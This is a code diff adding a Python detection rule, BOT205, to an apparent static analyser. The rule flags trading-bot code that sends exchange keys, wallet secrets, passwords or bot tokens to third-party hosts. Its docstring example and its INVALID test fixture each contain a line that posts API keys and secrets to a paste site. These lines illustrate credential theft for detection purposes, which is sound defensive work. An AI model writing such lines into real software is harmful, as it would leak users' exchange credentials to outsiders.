@@ -1,0 +1,120 @@
+"""BOT205: credentials sent to a host that is not their service's."""
+from __future__ import annotations
+
+import re
+from typing import List, Optional, Tuple
+
+from ...analysis import names
+from ...analysis.dataflow import HTTP, SOCKET, DataFlow, SinkSite, Source
+from ...analysis.hosts import is_exchange_host, is_known_service_host, is_local_host, is_notification_host
+from ...model import Confidence, Severity
+from ._family import Bot2Rule, Report
+
+_GENERIC_WORDS = frozenset(
+    """api key secret token access auth client app user account password pass passphrase private
+    bot webhook url id the my x http https www com net org io""".split()
+)
+NOTIFICATION = "notification"
+THIRD_PARTY = "third-party"
+
+
+def _words(label: str) -> List[str]:
+    return [w for w in names.words(label) if w]
+
+
+def _belongs(src: Source, host: str) -> bool:
+    """A service's own key going to that service (``ETHERSCAN_API_KEY`` to api.etherscan.io)."""
+    parts = set(re.split(r"[.\-]", host.lower()))
+    return any(len(w) >= 4 and w not in _GENERIC_WORDS and w in parts for w in _words(src.label))
+
+
+def _exfil_grade(src: Source) -> bool:
+    """Credentials that have no business on any host but their exchange or wallet."""
+    if src.obj or src.container:
+        return True
+    ws = set(_words(src.label)) | set(_words(src.origin))
+    if src.kind in (names.PRIVATE_KEY, names.MNEMONIC, names.PASSWORD, names.BOT_TOKEN, names.WEBHOOK):
+        return True
+    if ws & names._EXCHANGE_WORDS or "ccxt" in src.origin:  # noqa: SLF001 - shared vocabulary
+        return True
+    if src.kind == names.EXCHANGE and ({"secret", "passphrase"} & ws):
+        return True
+    return False
+
+
+def egress(flow: DataFlow, site: SinkSite, sources: List[Source]) -> Optional[Tuple[str, Report]]:
+    """Where an HTTP request or socket send goes, judged by its host: (NOTIFICATION or
+    THIRD_PARTY, the report), or None (an exchange, a local host, a service's own key)."""
+    url_t = flow.url_taint(site)
+    srcs = sources
+    host = site.host
+    if host is None:
+        # unknown host: only a webhook/bot URL tells us where it goes
+        if not any(s.kind in (names.WEBHOOK, names.BOT_TOKEN) for s in url_t):
+            return None
+        srcs = [s for s in srcs if s.kind not in (names.WEBHOOK, names.BOT_TOKEN, names.TOKEN)]
+        return (NOTIFICATION, Report(site.node, srcs, f"reaches {site.what} (a notification webhook)")) if srcs else None
+    if is_exchange_host(host) or is_local_host(host):
+        return None
+    if is_notification_host(host):
+        srcs = [s for s in srcs if s.kind not in (names.WEBHOOK, names.BOT_TOKEN) and not _belongs(s, host)
+                and not (s.kind == names.TOKEN and s in url_t)]
+        return (NOTIFICATION, Report(site.node, srcs, f"reaches {site.what} to {host}")) if srcs else None
+    srcs = [s for s in srcs if not _belongs(s, host) and _exfil_grade(s)
+            and not (is_known_service_host(host) and s.kind in (names.TOKEN, names.SECRET))]
+    return (THIRD_PARTY, Report(site.node, srcs, f"reaches {site.what} to third-party host {host}")) if srcs else None
+
+
+class SecretSentToThirdParty(Bot2Rule):
+    """## What it does
+    Reports HTTP requests (requests, httpx, aiohttp, urllib) that carry an exchange credential,
+    wallet key, seed phrase, password or bot token (in the URL, params, body or headers) to a
+    host that is not an exchange's own (domain.md §3) and not the service the key belongs to.
+
+    ## Why is this bad?
+    This is how key-stealing "profit bots" work: the bot trades as promised and quietly posts
+    the user's keys to a pastebin, a webhook or the author's server.  An exchange key has no
+    business on any host but its exchange.
+
+    ## Example
+    ```python
+    requests.post("https://paste.example.net/api", data={"k": API_KEY, "s": API_SECRET})
+    ```
+
+    ## Use instead
+    ```python
+    exchange = ccxt.binance({"apiKey": API_KEY, "secret": API_SECRET})  # only the exchange sees them
+    ```
+
+    ## Known problems
+    The host must be visible in the module (a literal URL or a module constant); requests to
+    a computed URL are not judged.  A generic `api_key` sent to an unknown host is assumed to
+    be that host's own API key and is not reported; keys named after an exchange, secrets,
+    passphrases, wallet keys and seed phrases are.
+
+    ## References
+    - [CWE-201: Insertion of Sensitive Information Into Sent Data](https://cwe.mitre.org/data/definitions/201.html)
+    """
+
+    CODE = "BOT205"
+    NAME = "secret-sent-to-third-party"
+    SEVERITY = Severity.CRITICAL
+    CONFIDENCE = Confidence.HIGH
+    CWE = 201
+    MESSAGE = "Exchange credential sent to a third-party host"
+    VALID = (
+        'import os, requests\nkey = os.environ["ETHERSCAN_API_KEY"]\n'
+        'requests.get("https://api.etherscan.io/api", params={"apikey": key})\n',
+        'import os, requests\nkey = os.environ["BINANCE_API_KEY"]\n'
+        'requests.get("https://api.binance.com/api/v3/account", headers={"X-MBX-APIKEY": key})\n',
+    )
+    INVALID = (
+        'import os, requests\nkey = os.environ["BINANCE_API_KEY"]\nsecret = os.environ["BINANCE_API_SECRET"]\n'
+        'requests.post("https://pastebin.com/api/api_post.php", data={"api_paste_code": f"{key}:{secret}"})\n',
+    )
+
+    SINKS = (HTTP, SOCKET)
+
+    def judge(self, flow: DataFlow, site: SinkSite, sources: List[Source]) -> Optional[Report]:
+        verdict = egress(flow, site, sources)
+        return verdict[1] if verdict is not None and verdict[0] == THIRD_PARTY else None
